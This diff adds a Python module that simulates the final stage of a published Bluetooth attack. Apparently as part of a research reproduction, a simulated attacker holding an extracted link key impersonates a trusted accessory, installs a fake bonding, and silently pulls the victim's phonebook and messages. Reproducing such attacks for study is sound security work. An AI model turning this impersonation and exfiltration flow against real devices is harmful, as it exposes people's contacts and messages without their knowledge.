@@ -1,0 +1,89 @@
+"""Post-extraction data exfiltration — the attack model's end goal.
+
+Paper §III: "an attacker's final goal is to Bluetooth connect to M in
+order to mine sensitive information ... sensitive Bluetooth data such
+as phone books, messages, and phone call conversations of M will be
+continuously leaked."
+
+This module closes the loop: given an extracted link key, install the
+fake bonding (Fig. 10) on the attacker device, impersonate the trusted
+accessory, and pull M's phonebook (PBAP) and message store (MAP) —
+both of which are gated only by LMP authentication, i.e. by possession
+of the link key.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from typing import List
+
+from repro.core.types import BdAddr, LinkKey
+from repro.attacks.attacker import Attacker
+from repro.attacks.scenario import World
+from repro.devices.device import Device
+from repro.host.map_profile import Message
+from repro.host.pbap import Contact
+
+
+@dataclass
+class ExfiltrationReport:
+    """What the impersonating attacker managed to pull from M."""
+
+    impersonated: BdAddr
+    phonebook: List[Contact] = field(default_factory=list)
+    messages: List[Message] = field(default_factory=list)
+    pairing_popups_on_m: int = 0
+    notes: List[str] = field(default_factory=list)
+
+    @property
+    def success(self) -> bool:
+        return bool(self.phonebook or self.messages)
+
+    @property
+    def silent(self) -> bool:
+        """True when the victim saw no pairing UI at all."""
+        return self.pairing_popups_on_m == 0
+
+
+def exfiltrate(
+    world: World,
+    attacker_device: Device,
+    victim_m: Device,
+    trusted_c_addr: BdAddr,
+    trusted_c_cod: int,
+    trusted_c_name: str,
+    link_key: LinkKey,
+) -> ExfiltrationReport:
+    """Impersonate C toward M with an extracted key and mine data.
+
+    Pre-condition: the real C is out of M's radio range (or powered
+    down); the attacker holds its identity and its link key.
+    """
+    attacker = Attacker(attacker_device)
+    attacker.spoof_identity(
+        trusted_c_addr, class_of_device=trusted_c_cod, name=trusted_c_name
+    )
+    attacker.install_fake_bonding(
+        victim_m.bd_addr, link_key, name=victim_m.controller.local_name
+    )
+    world.run_for(0.5)
+
+    report = ExfiltrationReport(impersonated=trusted_c_addr)
+    popups_before = victim_m.user.popups_seen
+
+    pbap_op = attacker_device.host.pbap.pull_phonebook(victim_m.bd_addr)
+    world.run_for(15.0)
+    if pbap_op.success:
+        report.phonebook = pbap_op.result
+    else:
+        report.notes.append(f"PBAP pull failed: status={pbap_op.status}")
+
+    map_op = attacker_device.host.map.list_messages(victim_m.bd_addr)
+    world.run_for(15.0)
+    if map_op.success:
+        report.messages = map_op.result
+    else:
+        report.notes.append(f"MAP listing failed: status={map_op.status}")
+
+    report.pairing_popups_on_m = victim_m.user.popups_seen - popups_before
+    return report
